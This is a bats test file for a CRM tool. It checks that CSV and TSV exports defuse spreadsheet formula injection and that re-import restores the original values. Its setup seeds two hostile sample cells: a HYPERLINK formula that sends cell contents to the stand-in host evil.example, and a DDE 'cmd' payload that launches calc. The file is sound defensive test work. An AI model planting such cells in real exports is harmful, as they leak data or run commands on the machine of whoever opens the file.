#!/usr/bin/env bats
# csv and tsv output guard against formula injection (OWASP): a text cell
# starting with = + - @ gets a leading '; numbers stay numbers; --raw
# writes cells as they are; import reads a guarded cell back as it was.

load helper

local_setup() {
	fresh_db
	crm lead add name='=HYPERLINK("http://evil.example/?x="&A1,"点我")' company='+cmd|'"'"'/c calc'"'"'!A0' \
		title=@SUM region=-5 industry=-3.5 >/dev/null
}

@test "export csv: formula-like cells get a leading quote, numbers do not" {
	run --separate-stderr crm export lead --format csv
	assert_success
	line=$(echo "$output" | sed -n 2p)
	[[ "$line" == *"\"'=HYPERLINK("* ]] || fail "name not guarded: $line"
	[[ "$line" == *",'+cmd|"* ]] || fail "company not guarded: $line"
	[[ "$line" == *",'@SUM,"* ]] || fail "title not guarded: $line"
	[[ "$line" == *",-3.5,-5,"* ]] || fail "numbers changed: $line"
}

@test "export tsv and lead list --csv/--tsv guard the same cells" {
	run --separate-stderr crm export lead --format tsv
	assert_success
	[[ "$output" == *$'\t'"'@SUM"$'\t'* ]] || fail "tsv: $output"
	run --separate-stderr crm lead list --format csv
	assert_success
	[[ "$output" == *"\"'=HYPERLINK("* ]] || fail "list csv: $output"
	run --separate-stderr crm lead list --tsv
	[[ "$output" == *"'=HYPERLINK("* ]] || fail "list tsv: $output"
	# JSON lines and tables are not spreadsheets: as they are
	run --separate-stderr crm lead show 1
	[ "$(jqo .title)" = "@SUM" ]
}

@test "export --raw: cells as they are" {
	run --separate-stderr crm export lead --format csv --raw
	assert_success
	line=$(echo "$output" | sed -n 2p)
	[[ "$line" == "1,\"=HYPERLINK("* ]] || fail "raw: $line"
	[[ "$line" == *",@SUM,"* ]] || fail "raw: $line"
}

@test "export csv then import: the guarded cells come back as they were" {
	crm export lead -o "$BATS_TEST_TMPDIR/out.csv"
	export CRM_DB="$BATS_TEST_TMPDIR/other.db"
	fresh_db
	run crm -q import lead "$BATS_TEST_TMPDIR/out.csv"
	assert_success
	run crm lead show 1
	[ "$(jqo .name)" = '=HYPERLINK("http://evil.example/?x="&A1,"点我")' ]
	[ "$(jqo .title)" = "@SUM" ]
	[ "$(jqo .region)" = "-5" ]
}
